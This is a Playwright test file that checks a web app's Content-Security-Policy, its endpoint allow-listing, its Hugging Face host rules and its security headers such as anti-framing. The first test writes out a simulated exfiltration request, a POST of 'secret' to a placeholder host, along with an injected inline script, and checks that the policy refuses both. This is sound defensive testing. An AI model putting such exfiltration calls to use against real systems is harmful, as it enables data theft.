// The built page runs under a Content-Security-Policy: connections only to itself and the configured endpoints,
// no inline script but the start script (by its hash), no eval. (Every other spec also runs under it, which shows the page works.) `vite preview` also
// sends the response headers docs/hosting.md asks a host for (app/browser/security-headers.ts).
import { expect, test } from "@playwright/test";
import { START_SCRIPT_HASH } from "../app/browser/start-script-hash";
import { pageHeaderPolicy } from "../app/browser/security-headers";
import { openApp, waitForReady } from "./helpers";

test("requests to other sites and inline scripts are refused, and eval is not allowed by the policy", async ({ page }) => {
  await openApp(page);
  const outcome = await page.evaluate(async () => {
    // Kept on the page: the violation events are dispatched later, after a delay a busy machine can stretch.
    const violations: string[] = [];
    (window as unknown as { __cspViolations: string[] }).__cspViolations = violations;
    document.addEventListener("securitypolicyviolation", (event) => violations.push(event.effectiveDirective));
    let fetched = "allowed";
    try {
      await fetch("https://exfiltration.example/collect", { method: "POST", body: "secret" });
    } catch {
      fetched = "refused";
    }
    const script = document.createElement("script");
    script.textContent = "window.__inline = true";
    document.body.append(script);
    const policy = document.querySelector<HTMLMetaElement>('meta[http-equiv="Content-Security-Policy"]')?.content ?? "";
    return { fetched, policy, inline: (window as unknown as { __inline?: boolean }).__inline ?? false };
  });
  expect(outcome.fetched).toBe("refused");
  // eval cannot be exercised from here (DevTools evaluation is exempt), so read the policy: WASM compilation only.
  const scriptSources = /script-src ([^;]*)/.exec(outcome.policy)?.[1] ?? "";
  // …and the start script inlined in index.html, by its hash; the script injected above is refused.
  expect(scriptSources).toBe(`'self' 'wasm-unsafe-eval' ${START_SCRIPT_HASH}`);
  expect(outcome.inline).toBe(false);
  await expect
    .poll(() => page.evaluate(() => (window as unknown as { __cspViolations: string[] }).__cspViolations))
    .toEqual(expect.arrayContaining(["connect-src", "script-src-elem"]));
});

test("an endpoint outside the policy asks for a reload, which then allows it", async ({ page }) => {
  await openApp(page);
  await page.getByRole("button", { name: "Settings" }).click();
  const dialog = page.getByRole("dialog", { name: "Settings" });
  await dialog.getByLabel("Provider").selectOption("custom");
  await dialog.getByLabel("Base URL").fill("https://llm.internal.example/v1");
  await expect(dialog.getByRole("status")).toContainText("Reload to allow https://llm.internal.example");
  await dialog.getByRole("button", { name: "Reload" }).click();
  await openApp(page);
  const allowed = await page.evaluate(() => document.querySelector<HTMLMetaElement>('meta[http-equiv="Content-Security-Policy"]:last-of-type')?.content ?? "");
  expect(allowed).toContain("https://llm.internal.example");
  await page.getByRole("button", { name: "Settings" }).click();
  await expect(page.getByRole("dialog", { name: "Settings" }).getByText("Reload to allow")).toHaveCount(0);
});

test("the Hugging Face hub and its file hosts are allowed only while the hub is the embedding model's location", async ({ page }) => {
  const policyAfterStart = () =>
    page.evaluate(() => document.querySelector<HTMLMetaElement>('meta[http-equiv="Content-Security-Policy"]:last-of-type')?.content ?? "");
  const modelSection = async () => {
    await page.getByRole("button", { name: "Settings" }).click();
    return page.getByRole("dialog", { name: "Settings" }).getByRole("region", { name: "Schema pruning model" });
  };
  await openApp(page);
  // The test build's default is its own ./models/ folder, and the model off: no hub.
  expect(await policyAfterStart()).not.toContain("huggingface.co");
  const first = await modelSection();
  await first.getByLabel("Embedding model").selectOption("Xenova/all-MiniLM-L6-v2");
  await first.getByLabel("Model location").selectOption("hub");
  await page.reload();
  await openApp(page);
  // huggingface.co and the CDNs its downloads redirect to.
  expect(await policyAfterStart()).toContain("https://huggingface.co https://*.huggingface.co https://*.hf.co");
  const section = await modelSection();
  await section.getByLabel("Model location").selectOption("folder");
  await section.getByLabel("Model folder URL").fill("https://models.example.org/m/");
  await page.reload();
  await openApp(page);
  const policy = await policyAfterStart();
  expect(policy).not.toContain("huggingface.co");
  expect(policy).not.toContain("hf.co");
  expect(policy).toContain("https://models.example.org");
});

test("the page comes with the host headers of docs/hosting.md, and another site cannot frame it", async ({ page, baseURL }) => {
  const response = await page.goto("/");
  const headers = response!.headers();
  expect(headers["content-security-policy"]).toBe(pageHeaderPolicy());
  expect(headers["content-security-policy"]).toContain("frame-ancestors 'none'");
  expect(headers).toMatchObject({
    "x-content-type-options": "nosniff",
    "referrer-policy": "no-referrer",
    "cross-origin-opener-policy": "same-origin",
    "x-frame-options": "DENY",
  });
  await waitForReady(page);

  // A page of another origin (about:blank's opaque one) frames the app: the browser shows an error page instead.
  await page.goto("about:blank");
  await page.setContent(`<iframe title="framed" src="${baseURL}"></iframe>`, { waitUntil: "load" });
  const framed = page.frames().find((frame) => frame !== page.mainFrame())!;
  expect(await framed.locator("#root").count()).toBe(0);
});
